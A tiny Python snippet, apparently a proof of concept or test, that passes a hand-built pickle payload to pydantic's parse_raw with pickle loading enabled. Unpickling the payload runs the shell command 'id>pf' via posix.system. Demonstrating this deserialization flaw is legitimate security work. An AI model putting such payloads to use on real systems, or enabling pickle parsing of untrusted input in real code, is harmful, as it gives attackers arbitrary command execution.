from pydantic import BaseModel
class M(BaseModel):
    x: int = 1
try:
    M.parse_raw(b"cposix\nsystem\n(S'id>pf'\ntR.", content_type="application/pickle", allow_pickle=True)
except Exception:
    pass
